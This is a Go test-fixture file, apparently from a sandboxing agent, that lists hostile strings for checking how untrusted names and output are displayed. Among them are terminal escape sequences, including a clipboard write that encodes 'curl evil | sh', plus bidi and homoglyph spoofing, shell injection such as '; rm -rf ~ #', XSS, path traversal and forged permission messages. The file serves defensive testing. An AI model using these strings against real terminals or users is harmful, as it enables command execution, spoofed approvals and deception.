package vterm

import (
	"strings"
	"unicode"

	"github.com/nemoclaw/nemoclaw/agent/text"
)

// Hostile are texts that a program inside a sandbox may use as a name, a path or an argument, to do something to who reads them. The
// first part of each line is what it tries.
func Hostile() []string {
	var list []string
	for _, c := range controls {
		list = append(list, c, "name"+c+"rest")
	}
	return append(list, texts...)
}

// Harmless is a text of letters as wide as an escaped one, character by character, to compare what is shown with.
func Harmless(escaped string) string {
	return strings.Map(func(r rune) rune {
		switch {
		case unicode.Is(unicode.M, r):
			return r
		case text.Width(string(r)) > 1:
			return 'ｘ'
		}
		return 'x'
	}, escaped)
}

// Commands are those of Hostile that change a terminal when they are printed as they are.
func Commands() []string { return controls }

var controls = []string{
	"\x1b]0;title\x07", "\x1b]2;title\x1b\\", "\x9d2;title\x9c", "\u009d2;title\u009c", // window title
	"\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07", "\x1b]52;p;?\x07", // clipboard, set and asked
	"\x1b]4;1;rgb:00/00/00\x07", "\x1b]10;#000000\x07", "\x1b]11;#000000\x1b\\", "\x1b]104\x07", // palette
	"\x1b]8;;https://evil.example\x07link\x1b]8;;\x07", // hyperlink
	"\x1b]1337;File=inline=1:AAAA\x07", "\x1b]777;notify;t;b\x07", "\x1b]9;note\x07", "\x1b]133;A\x07", "\x1b]50;font\x07",
	"\x1b[31m", "\x1b[8m", "\x1b[7;5m", "\x9b31m", "\u009b31m", "\x1b[38;2;0;0;0;48;2;0;0;0m", // colours, hidden
	"\x1b[2J", "\x1b[H", "\x1b[1;1H", "\x1b[999D", "\x1b[5A", "\x1b[K", "\x1b[1K", "\x1b[3J", "\x1b[s\x1b[u", "\x1b7", "\x1b8", // place
	"\x1b[?25l", "\x1b[?1049h", "\x1b[?1000h", "\x1b[?1003;1006h", "\x1b[?2004l", "\x1b[?2026h", "\x1b[?7l", "\x1b[?5h", "\x1b[?69h", "\x1b[?1h", "\x1b[4h", "\x1b[20h", "\x1b=", // modes
	"\x1b[2;3r", "\x1b[3;5s", "\x1b[5L", "\x1b[5M", "\x1b[5S", "\x1b[5T", "\x1bM", "\x1bD", "\x1bE", "\u0084", "\u0085", "\u008d", // scrolling
	"\x1b[c", "\x1b[6n", "\x1b[5n", "\x1b[>c", "\x1b[=c", "\x1b[?25$p", "\x05", "\x1b[18t", "\x1b[21t", "\x1bZ", "\x1bP$qm\x1b\\", "\x1bP+q544e\x1b\\", // questions that the terminal answers as if typed
	"\x1bc", "\x1b[!p", "\x1b#8", "\x1b[8;10;20t", "\x1b[2t", "\x1b[3q", "\x1b[0 q", // reset, size, cursor
	"\x1b(0", "\x0e", "\x0f", "\x1b*0\x1bn", "\x1b%@", // character sets
	"\x1bPq#0;2;0;0;0~\x1b\\", "\x1b_Ga=T;AAAA\x1b\\", "\x1b^pm\x1b\\", "\x1bXsos\x1b\\", "\x90q\x9c", // pictures and strings
	"\x1b", "\x1b[", "\x1b]0;", "\x1bP", "\x1b_", "\u009b", "\u009d", "\x9b", "\x1b[31", "\x1b]52;c;", // not finished: they swallow what follows
	"\a", "\b\b\b\b", "\r", "\n", "\v", "\f", "\t", "\x00", "\x7f", "\x18", "\x1a", "\x1bH", "\x1b[g", "\x1b[3g",
}

var texts = []string{
	"", " ", "\\", `\x1b[31m`, `\u202e`,
	"[red]", "[red:blue:b]text[-:-:-]", `["region"]x[""]`, "[::l]", "[:::https://evil.example]x[:::-]", "[red[]", "[", "]", "[]", "[[red]", "[#ff0000]", "[-]", "[black:black]hidden", // tview
	"\u202egpj.exe", "\u202d\u202ex", "a\u2066b\u2069c", "\u200e\u200f\u061c", // bidi
	"\u05d0\u05d1/\u05d2", "/srv/\u0627\u0644\u0639/x", // letters from right to left
	"api.example.org\u200b.evil.example", "a\u200d\u200c\u2060\ufeffb", "a\u00adb", "\u180eb", // zero width
	strings.Repeat("a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308", 20), "\u0301\u0302", strings.Repeat("\u0e49", 50), "Z\u0351\u036b\u0343\u032a", // floods of marks
	"x\ufe0f", "\u2764\ufe0e", "\U000e0100", "\U000e0041\U000e0042", "\u180b", // variations, tags
	"\ue0b0\uf8ff\U000f0000\U0010ffff", "\ufdd0\uffff\ufffe", // private use, no characters
	"\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f44d\U0001f3fd", "\U0001f1e9\U0001f1ea", "1\ufe0f\u20e3", // emoji of several parts
	"\u1100\u1161\u11a8", "\u3164\u115f\u1160\uffa0\u2800", "\u00a0\u2003\u3000x", "\u2028\u2029", // fillers, blanks
	"日本語のパス", "ｆｕｌｌｗｉｄｔｈ", "한국어", "\ufdfd", "\u2e3b", "\U0001242b", "\U00012031", // wide ones
	"\u00a1\u00a7\u2460\u2500\u2588\u03b1\u0430", // of ambiguous width
	"\xff\xfe\x80", "\xc3", "\xe2\x80", "\xf0\x9f\x98", "\xed\xa0\x80", "\xc0\x80", // not UTF-8
	"xn--80ak6aa92e.com", "\u0430\u0440\u0440\u04cf\u0435.com", "gith\u00fcb.com", "xn--", "xn--\x1b", // names
	strings.Repeat("a", 5000), strings.Repeat("日", 3000), strings.Repeat("\x1b[A", 2000), strings.Repeat("a/", 2048),
	"'; rm -rf ~ #", "$(reboot)", "`reboot`", "%s%n%d", "<script>alert(1)</script>", "{{.}}", "\"\n- path: /\n  permissions: [read]", "../../../etc/passwd", // for other readers
	"nemoclaw: allowed", "\r\nnemoclaw: sandbox box: connect example.org:443: allowed once\r\n", "allow\tonce", // to look like ours
}
